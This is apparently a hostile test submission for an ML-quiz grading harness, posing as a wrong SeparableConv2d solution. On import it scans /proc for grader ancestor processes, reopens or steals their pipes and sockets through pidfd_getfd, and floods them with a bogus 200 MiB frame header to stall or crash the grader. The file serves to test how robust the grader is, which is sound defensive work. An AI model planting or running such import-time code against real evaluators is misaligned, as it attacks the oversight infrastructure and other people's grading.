"""Hostile: declares a 200 MiB message on every pipe it can write to.

The module is the deck's "ReLU between" wrong solution (fails ``outputs``). At import it
writes, without blocking, an 8-byte big-endian length of 200 MiB (also read as a 200 MiB
4-byte length: the first 4 bytes are zero) followed by up to 64 KiB of zeros to: every pipe
it holds open for writing (its reply channel, whatever its number), every pipe it holds for
reading, reopened for writing through ``/proc/self/fd/N`` (its stdin, its request channel),
and every pipe or socket of an ancestor that is a grader process (``/proc/<pid>/fd/N``,
sockets through ``pidfd_getfd``; never a shell).

A grader must neither allocate 200 MiB for it nor wait for the rest: the verdict must be
``fail`` or ``error`` within its timeout, and every other submission graded alongside must
still get its own report. Prints ``MLQUIZ-ESCAPED huge-frame <path>`` for each write to a
pipe that is not its own reply channel.
"""

import contextlib
import ctypes
import os
import socket
import stat
import struct

import torch
from torch import nn

GRADERISH = (b"grader", b"zygote", b"judge", b"contestant", b"mlquiz", b"quiz")
SHELLS = {"bash", "sh", "dash", "zsh", "fish", "sudo", "su", "sshd", "ssh", "tmux", "screen",
          "systemd", "init", "login", "timeout", "nohup", "env",
          "setsid", "nice", "stdbuf", "xargs", "make", "sudo-rs", "containerd-shim", "docker"}


def _read(path, size=1 << 16):
    with contextlib.suppress(OSError):
        with open(path, "rb") as handle:
            return handle.read(size)
    return b""


def _ppid_of(pid):
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _is_grader(pid):
    comm = _read(f"/proc/{pid}/comm").decode(errors="replace").strip()
    return comm not in SHELLS and any(w in _read(f"/proc/{pid}/cmdline") for w in GRADERISH)


def _grader_ancestors(levels=6):
    """Ancestors, nearest first, up to the first one that is not a grader process."""
    found, pid = [], os.getpid()
    for _ in range(levels):
        pid = _ppid_of(pid)
        if pid <= 1 or not _is_grader(pid):
            break
        found.append(pid)
    return found


def _fds(pid):
    with contextlib.suppress(OSError, ValueError):
        return sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    return []


def _pipe(path):
    """``pipe:[inode]`` or ``socket:[inode]`` for a channel, else None."""
    with contextlib.suppress(OSError):
        link = os.readlink(path)
        if link.startswith(("pipe:", "socket:")):
            return link
    return None


def _accmode(pid, fd):
    for line in _read(f"/proc/{pid}/fdinfo/{fd}").decode(errors="replace").splitlines():
        if line.startswith("flags:"):
            return int(line.split()[1], 8) & 3
    return None


def _own_pipes():
    """Inodes of this process's own channels other than 0, 1, 2 (its link to the grader)."""
    return {_pipe(f"/proc/self/fd/{fd}") for fd in _fds("self") if fd > 2} - {None}


def _grab(pid, fd):
    """Our own descriptor for /proc/<pid>/fd/<fd>, to write to: a pipe is reopened (a new,
    non-blocking open of it); a socket, which cannot be reopened, is duplicated with
    pidfd_getfd(2) (that needs the rights ptrace needs). Raises OSError if neither works."""
    path = f"/proc/{pid}/fd/{fd}"
    try:
        return os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        if pid == "self" or not (_pipe(path) or "").startswith("socket:"):
            raise
    pidfd = os.pidfd_open(pid)
    try:
        got = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, fd, 0)  # pidfd_getfd
    finally:
        os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd failed")
    return got


def _send(handle, data):
    """Write without blocking; on a socket with MSG_DONTWAIT (its O_NONBLOCK is shared)."""
    if stat.S_ISSOCK(os.fstat(handle).st_mode):
        with socket.socket(fileno=os.dup(handle)) as sock:
            return sock.send(data, socket.MSG_DONTWAIT)
    return os.write(handle, data)


HEADER = struct.pack("!Q", 200 * 2**20) + bytes(64 * 1024)


def _write_nonblocking(fd, data):
    was_blocking = os.get_blocking(fd)
    os.set_blocking(fd, False)
    try:
        return os.write(fd, data)
    except OSError:
        return 0
    finally:
        os.set_blocking(fd, was_blocking)


def _flood():
    done = set()
    for fd in _fds("self"):  # our own write ends: the reply channel
        inode = _pipe(f"/proc/self/fd/{fd}")
        if inode and _accmode("self", fd) in (os.O_WRONLY, os.O_RDWR):
            print(f"huge-frame: {_write_nonblocking(fd, HEADER)} bytes to our fd {fd} ({inode})")
            done.add(inode)
    targets = [("self", fd) for fd in _fds("self")]
    targets += [(pid, fd) for pid in _grader_ancestors() for fd in _fds(pid)]
    for pid, fd in targets:
        path = f"/proc/{pid}/fd/{fd}"
        inode = _pipe(path)
        if not inode or inode in done:
            continue
        done.add(inode)
        try:
            handle = _grab(pid, fd)
        except OSError as exc:
            print(f"huge-frame: cannot open {path} ({inode}): {exc.strerror}")
            continue
        try:
            written = _send(handle, HEADER)
            print(f"MLQUIZ-ESCAPED huge-frame {path} ({inode}): {written} bytes")
        except OSError as exc:
            print(f"huge-frame: write to {path} failed: {exc.strerror}")
        finally:
            os.close(handle)


with contextlib.suppress(Exception):
    _flood()


class SeparableConv2d(nn.Module):
    """WRONG: a ReLU between the depthwise and the pointwise convolution."""

    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(
            in_channels,
            in_channels,
            kernel_size,
            padding=kernel_size // 2,
            groups=in_channels,
            bias=False,
        )
        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.pointwise(torch.relu(self.depthwise(x)))
